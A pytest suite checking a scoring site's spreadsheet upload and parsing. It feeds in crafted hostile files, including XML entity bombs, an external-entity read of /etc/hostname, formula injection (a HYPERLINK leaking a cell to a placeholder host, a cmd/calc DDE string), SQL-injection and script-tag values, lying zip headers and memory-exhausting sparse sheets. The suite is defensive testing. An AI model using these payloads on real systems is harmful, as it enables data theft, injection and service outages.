"""Somebody of the panel brings back a file that no spreadsheet has made, or a preview that is another's."""

import io
import re
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from award.tables import book_values, extent, table_from
from award.tables.refusing import Wrong
from exports.score_sheet_layout import CHECK_KEY, ENTRY_KEY, KEYS, Identity
from scoring_rules.problems import FactsRefused
from tests.award.filled_sheets import changed, changes_of, filled, read, refusal, written
from tests.award.hostile import everything, signed_in
from tests.award.scoring_day import ScoringDay, build_day, new_key
from tests.award.test_score_sheets_pages import COMMITMENT, download, fill, sealed_in, store, stored, upload

ABOUT_EN, SECRET = "About this file", "SECRET-73"
SHEET = "xl/worksheets/sheet1.xml"
SAVED = Path(__file__).parents[1] / "data" / "score_sheets"
MAIN = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
FAR = MAIN % (
    b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
)  # a reader that makes room for all cells between them needs half a terabyte
Change = Callable[[bytes], bytes]


def repacked(data: bytes, *, more: Mapping[str, bytes] | None = None, **parts: Any) -> bytes:
    """The package with parts changed (by a function of their bytes) and others added."""
    changes: dict[str, Change] = parts.get("changes", {})
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as package, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in package.namelist():
            new.writestr(name, changes.get(name, bytes)(package.read(name)))
        for name, content in (more or {}).items():
            new.writestr(name, content)
    return made.getvalue()


def cell(content: bytes, at: str = "E8") -> bytes:
    """The example's sheet with the raw XML of one cell instead of what stands there."""
    place = re.compile(rb'<c r="%s"[^>]*?(/>|>.*?</c>)' % at.encode(), re.S)
    return repacked(written(), changes={SHEET: lambda xml: place.sub(content, xml, count=1)})


def claiming(data: bytes, edit: Callable[[Any], None], *, page: str) -> bytes:
    """The sheet with what it says of itself edited, and its check digits made to fit: they are no secret."""

    def write(book: Workbook) -> None:
        about = book[page]
        edit(about)
        rows = {about.cell(row, 2).value: row for row in range(1, about.max_row + 1)}
        entries = tuple(
            tuple(str(about.cell(row, column).value or "") for column in (3, 4, 5))
            for row in range(1, about.max_row + 1)
            if about.cell(row, 2).value == ENTRY_KEY
        )
        told = {key: str(about.cell(rows[key], 3).value) for key in KEYS}
        about.cell(rows[CHECK_KEY], 3).value = Identity(**told, entries=entries).check  # type: ignore[arg-type]

    return changed(data, write)


def says(key: str, value: str, *, column: int = 3) -> Callable[[Any], None]:
    def edit(page: Any) -> None:
        row = next(row for row in range(1, page.max_row + 1) if page.cell(row, 2).value == key)
        page.cell(row, column).value = value

    return edit


def ods(rows: bytes, *, tables: int = 1) -> bytes:
    """The saved ODS with further sheets of these rows."""
    made = b"".join(b'<table:table table:name="x%d">%s</table:table>' % (number, rows) for number in range(tables))
    end = b"</office:spreadsheet>"
    return repacked(
        (SAVED / "filled.ods").read_bytes(), changes={"content.xml": lambda xml: xml.replace(end, made + end)}
    )


def astray(data: bytes) -> bytes:
    """The old workbook, whose first sheet now says that it has sixteen million rows."""
    at = data.index(b"\x00\x02\x0e\x00") + 8
    return data[:at] + b"\xff\xff\xff\x00" + data[at + 4 :]


@pytest.mark.parametrize("raw", [b"1E400", b"1e300", b"inf", b"-Infinity", b"NaN", b"0x5", b"3" * 400, b"1E2", b"1e-5"])
def test_a_number_that_is_none_is_refused_as_a_mark_and_breaks_nothing(raw: bytes) -> None:
    (problem,) = refusal(cell(b'<c r="E8"><v>%s</v></c>' % raw))
    assert problem.startswith("mark ")


@pytest.mark.parametrize("typed", ["1E2", "0x5", "TRUE", True, "4,0", "٤", "1_0", "1/2", "'4"])
def test_what_only_looks_like_a_mark_is_refused(typed: Any) -> None:
    assert [each.split()[0] for each in refusal(filled(written(), {"E8": typed}))] == ["mark"]


def test_what_nobody_sees_is_taken_out_of_marks_and_notes_as_on_the_card() -> None:
    """A terminal would obey such a note: it could wipe out the lines that tell what else the file changes."""
    raw = "a_x001B_[2Kb\u202ec_x0007_d\u200b"
    data = cell(f'<c r="G8" t="inlineStr"><is><t>{raw}</t></is></c>'.encode(), at="G8")
    assert [new for *_, new in changes_of(read(data))] == ["a[2Kbcd"]
    assert changes_of(read(filled(written(), {"E8": "\u200f4\u200b"})))[0][3:] == ("5", "4")


def test_a_mark_of_seventeen_digits_is_the_mark_that_the_spreadsheet_shows() -> None:
    assert changes_of(read(cell(b'<c r="E8"><v>4.0000000000000004</v></c>')))[0][3:] == ("5", "4")


def test_two_cells_for_one_place_are_refused() -> None:
    assert refusal(cell(b'<c r="E8"><v>1</v></c><c r="E8"><v>5</v></c>'))[0].startswith("xlsx_damaged ")


def test_a_package_that_is_two_kinds_of_file_is_read_only_as_what_was_scanned() -> None:
    """Scanned as the one kind and read as the other, it once took the whole server down."""
    both = repacked(
        written(), changes={SHEET: lambda _: FAR}, more={"content.xml": b'<t:a xmlns:t="t"/>', "mimetype": b"x"}
    )
    assert refusal(both)[0].startswith("xlsx_damaged ")


def test_parts_whose_names_differ_only_in_case_are_refused() -> None:
    assert refusal(repacked(written(), more={"xl/Worksheets/Sheet1.xml": FAR}))[0].startswith("xlsx_damaged ")


def test_a_sheet_under_an_unusual_name_is_watched_like_any_other() -> None:
    rels = "xl/_rels/workbook.xml.rels"
    moved = repacked(
        written(),
        changes={rels: lambda xml: xml.replace(b"worksheets/sheet1.xml", b"worksheets/far.bin")},
        more={"xl/worksheets/far.bin": FAR},
    )
    assert refusal(moved)


def test_many_sheets_that_each_reach_far_are_refused_together() -> None:
    def add(book: Workbook) -> None:
        for number in range(3):
            book.create_sheet(f"x{number}").cell(4000, 400).value = 1

    assert refusal(changed(written(), add))[0].startswith("sheet_too_large ")
    wide = (
        b'<table:table-row table:number-rows-repeated="3999"/><table:table-row><table:table-cell table:number-columns-'
    )
    wide += b'repeated="399"/><table:table-cell office:value-type="float" office:value="1"/></table:table-row>'
    assert refusal(ods(wide, tables=3))[0].startswith("sheet_too_large ")


def test_it_is_the_box_around_all_cells_of_a_sheet_that_counts() -> None:
    far = b'<table:table-row><table:table-cell table:number-columns-repeated="4999"/>%s</table:table-row>'
    far += b'<table:table-row table:number-rows-repeated="4998"/><table:table-row>%s</table:table-row>'
    one = b'<table:table-cell office:value-type="float" office:value="1"/>'
    assert refusal(ods(far % (one, one)))[0].startswith("sheet_too_large ")


def test_a_workbook_of_two_hundred_sheets_is_refused() -> None:
    def add(book: Workbook) -> None:
        for number in range(200):
            book.create_sheet(f"x{number}")

    assert refusal(changed(written(), add))[0].startswith("sheet_too_large ")


def test_more_elements_than_any_sheet_has_are_not_read_to_the_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(extent, "MOST_PARTS", 5_000)
    many = repacked(written(), more={"xl/many.xml": b"<a>" + b"<b/>" * 6_000 + b"</a>"})
    assert refusal(many)[0].startswith("sheet_too_large ")
    assert refusal(ods(b"<table:table-row><table:table-cell/></table:table-row>" * 6_000))[0].startswith(
        "sheet_too_large "
    )


def test_of_a_sheet_full_of_strays_only_so_many_are_told() -> None:
    def fill_all(book: Workbook) -> None:
        for row in range(40, 60):
            for column in range(20, 100):
                book.worksheets[0].cell(row, column).value = "x"

    assert len(refusal(changed(written(), fill_all))) == 1_000


def test_a_text_shared_by_many_cells_is_counted_for_each() -> None:
    cells = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (row, row) for row in range(1, 3001))
    shared = b"<sst><si><t>" + b"a" * 30_000 + b"</t></si></sst>"
    heavy = repacked(written(), changes={SHEET: lambda _: MAIN % cells}, more={"xl/sharedStrings.xml": shared})
    assert refusal(heavy)[0].startswith("file_too_large ")


@pytest.mark.parametrize("lie", [100, 0xFFFFFFF0])
def test_a_part_that_announces_another_size_than_it_has_is_refused(lie: int) -> None:
    data = bytearray(repacked(written(), more={"xl/more.xml": b"<a>" + b" " * 100_000 + b"</a>"}))
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.rindex(signature) + offset
        data[at : at + 4] = struct.pack("<I", lie)
    assert refusal(bytes(data))[0].split()[0] in ("xlsx_damaged", "file_too_large")


@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_package_packed_as_no_spreadsheet_packs_is_refused(method: int) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(written())) as package, zipfile.ZipFile(made, "w", method) as new:
        for name in package.namelist():
            new.writestr(name, package.read(name))
    assert refusal(made.getvalue())[0].startswith("xlsx_damaged ")


@pytest.mark.parametrize(
    ("head", "code"),
    [
        (b'<!DOCTYPE a [<!ENTITY b "cccccccccc"><!ENTITY d "&b;&b;&b;&b;&b;">]>', "xml_declaration"),
        (b'<!DOCTYPE a SYSTEM "file:///etc/hostname">', "xml_declaration"),
        (b'<?xml version="1.0" encoding="UTF-88"?>', "xlsx_damaged"),
    ],
)
def test_xml_that_would_unfold_or_cannot_be_read_is_refused(head: bytes, code: str) -> None:
    bomb = repacked(written(), changes={SHEET: lambda xml: head + xml[xml.index(b"<worksheet") :]})
    assert refusal(bomb)[0].startswith(f"{code} ")


def test_an_old_file_that_leads_its_reader_astray_harms_nobody_else() -> None:
    """Read in this process, such a file ends it: the number of bytes to make room for is the file's own word."""
    data = (SAVED / "filled.xls").read_bytes()
    assert [name for name, _ in book_values.values_apart(data)] == [name for name, _ in book_values.book_values(data)]
    for harm in (astray(data), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)):
        with pytest.raises(Wrong) as refused:
            book_values.values_apart(harm)
        assert refused.value.code == "xlsx_damaged"


@pytest.fixture
def day(tmp_path: Path) -> ScoringDay:
    return build_day(tmp_path)


def test_a_revision_that_the_file_made_up_is_no_reason_to_believe_it(day: ScoringDay) -> None:
    day.open()
    member = signed_in(day.site, "z9-member")
    day.save(member, day.card("z9-member"), {"d1/commitment": "2"})
    data = fill(download(member, day.first_slot), {COMMITMENT: 4})
    for revision in ("²", "٣", "9" * 5000, "-1", "1e9"):
        shown = upload(member, day.first_slot, claiming(data, says(ENTRY_KEY, revision, column=5), page=ABOUT_EN))
        assert shown.status_code == 200, "its card's past is not known"
        assert "This card was saved after the sheet was downloaded." in shown.text


def test_a_file_that_claims_to_be_anothers_or_of_another_slot_is_still_only_the_members_own(day: ScoringDay) -> None:
    """Check digits are no secret. What the file says decides nothing: it is held against the database."""
    day.open()
    member, chair = signed_in(day.site, "z9-member"), signed_in(day.site, "z9-chair")
    day.save(chair, day.card("z9-chair"), {"d1/commitment": "5", "note:d1/commitment": SECRET})
    data = fill(download(member, day.first_slot), {COMMITMENT: 1})
    for key, value in (("member", "z9-chair"), ("cycle", "2565"), ("stage", "national"), ("rules_sha256", "0" * 64)):
        refused = upload(member, day.first_slot, claiming(data, says(key, value), page=ABOUT_EN))
        assert refused.status_code == 422 and SECRET not in refused.text
    for code in ("to-22", "to-23' or 1=1", "wf-a-23"):
        assert upload(
            member, day.first_slot, claiming(data, says(ENTRY_KEY, code), page=ABOUT_EN)
        ).status_code == 422  # fmt: skip
    taken = fill(download(chair, day.first_slot), {COMMITMENT: 1})
    mine = upload(member, day.first_slot, claiming(taken, says("member", "z9-member"), page=ABOUT_EN))
    assert store(member, day.first_slot, sealed_in(mine) | {"overwrite": "yes"}).status_code == 303
    assert stored(day, day.card("z9-chair")) == [(1, "d1/commitment", 50_000, SECRET)]
    assert stored(day, day.card("z9-member"))[0][1:3] == ("d1/commitment", 10_000)


def test_a_confirmed_preview_counts_for_its_person_its_slot_and_its_moment_only(day: ScoringDay) -> None:
    day.open()
    member, chair, card = signed_in(day.site, "z9-member"), signed_in(day.site, "z9-chair"), day.card("z9-member")
    fields = sealed_in(upload(member, day.first_slot, fill(download(member, day.first_slot), {COMMITMENT: 4})))
    now = {name: rows for name, rows in everything(day.site).items() if name != "sign_in"}
    outsiders = (("z9-chair", day.first_slot), ("z9-member", day.slots[1]), ("z10-member", day.first_slot))
    for login, slot in (*outsiders, ("organizer", day.first_slot), ("p23", day.first_slot)):
        assert store(signed_in(day.site, login), slot, fields).status_code in (403, 404, 422)
    for changes in ("", "x", "e30.x", fields["changes"].swapcase(), fields["changes"].split(".")[0], "[" * 10_000):
        assert store(member, day.first_slot, fields | {"changes": changes}).status_code == 422
    for key in ("", "x", "k" * 5000):
        assert store(member, day.first_slot, fields | {"key": key}).status_code == 400, "no page of ours sends this"
    secret, day.site.app.config["SECRET_KEY"] = day.site.app.config["SECRET_KEY"], "another secret"
    assert store(member, day.first_slot, fields).status_code == 422
    day.site.app.config["SECRET_KEY"] = secret
    assert {name: rows for name, rows in everything(day.site).items() if name != "sign_in"} == now
    assert store(member, day.first_slot, fields).status_code == 303
    assert store(member, day.first_slot, fields).status_code == 303, "the same key: the first receipt"
    assert store(member, day.first_slot, fields | {"key": new_key()}).status_code == 409
    assert len(stored(day, card)) == 1
    assert store(chair, day.first_slot, fields).status_code == 422


def test_a_preview_from_before_the_slot_closed_is_no_way_in_afterwards(day: ScoringDay) -> None:
    day.open()
    member, card = signed_in(day.site, "z9-member"), day.card("z9-member")
    data = fill(download(member, day.first_slot), {COMMITMENT: 1})
    fields = sealed_in(upload(member, day.first_slot, data))
    day.change("update slot set state = 'closed', closed_at = '2021-07-19T02:00:00.000000Z' where id = :id",
               id=day.first_slot)  # fmt: skip
    assert store(member, day.first_slot, fields).status_code == 423
    shut = upload(member, day.first_slot, data)
    assert shut.status_code == 200 and 'name="changes"' not in shut.text
    assert stored(day, card) == []


def test_a_preview_from_before_the_duty_ended_is_no_way_in_afterwards(day: ScoringDay) -> None:
    day.open()
    member = signed_in(day.site, "z9-member")
    fields = sealed_in(upload(member, day.first_slot, fill(download(member, day.first_slot), {COMMITMENT: 1})))
    day.change("update duty set to_day = '2021-07-01' where user_id = (select id from user where login = 'z9-member')")
    assert store(member, day.first_slot, fields).status_code in (403, 404)
    assert stored(day, day.card("z9-member")) == []


def test_nobody_is_shown_a_receipt_that_is_another_persons(day: ScoringDay) -> None:
    """A link with somebody else's receipt would make a member believe that their own sheet is stored."""
    day.open()
    member, chair = signed_in(day.site, "z9-member"), signed_in(day.site, "z9-chair")
    fields = sealed_in(upload(chair, day.first_slot, fill(download(chair, day.first_slot), {COMMITMENT: 4})))
    link = store(chair, day.first_slot, fields).location
    assert "The sheet is stored." in chair.get(link).text
    assert "The sheet is stored." not in member.get(link).text
    other = link.replace(f"/slot/{day.first_slot}/", f"/slot/{day.slots[1]}/")
    assert "The sheet is stored." not in chair.get(other).text


def test_texts_that_look_like_formulas_come_out_of_a_sheet_as_texts(day: ScoringDay) -> None:
    day.open()
    evil = '=HYPERLINK("http://x.example/"&E8,"ดู")'
    day.change("update entry set label = :evil where code = 'to-23'", evil=evil)
    day.change("update duty set title_th = :evil, title_en = :evil where role = 'member'", evil="+1+cmd|' /C calc'!A0")
    member = signed_in(day.site, "z9-member")
    assert day.save(member, day.card("z9-member"), {"note:d1/commitment": f"@{evil}\u202e"}).status_code == 200
    data = download(member, day.first_slot)
    cells = [cell for page in load_workbook(io.BytesIO(data)) for row in page.iter_rows() for cell in row]
    assert {cell.value for cell in cells if cell.data_type == "s"} >= {f"@{evil}"}
    assert any(cell.data_type == "s" and evil in str(cell.value) for cell in cells)
    formulas = " ".join(str(cell.value) for cell in cells if cell.data_type == "f")
    assert formulas and "HYPERLINK" not in formulas and "cmd" not in formulas
    back = upload(member, day.first_slot, data, name='=cmd|"<script>alert(1)</script>.xlsx')
    assert back.status_code == 200 and "<script>alert" not in back.text
    assert 'name="changes"' not in back.text, "what went out comes back unchanged"


def test_tables_of_entries_and_marks_are_bounded_by_the_box_around_their_cells_too(tmp_path: Path) -> None:
    """`award rank` reads what somebody sent by mail; one cell far down and one far out need 32 gigabytes."""
    rows = b'<row r="1000000"><c r="A1000000"><v>1</v></c></row><row r="1"><c r="ALL1"><v>1</v></c></row>'
    book = Workbook()
    book.worksheets[0]["A1"] = 1
    data = io.BytesIO()
    book.save(data)
    both = repacked(data.getvalue(), more={"xl/Worksheets/SHEET1.xml": FAR})
    for file, code in ((repacked(data.getvalue(), changes={SHEET: lambda _: MAIN % rows}), "table_too_large"),
                       (both, "xlsx_damaged")):  # fmt: skip
        with pytest.raises(FactsRefused) as refused:
            table_from(file, name="marks.xlsx")
        assert [each.code for each in refused.value.problems] == [code]
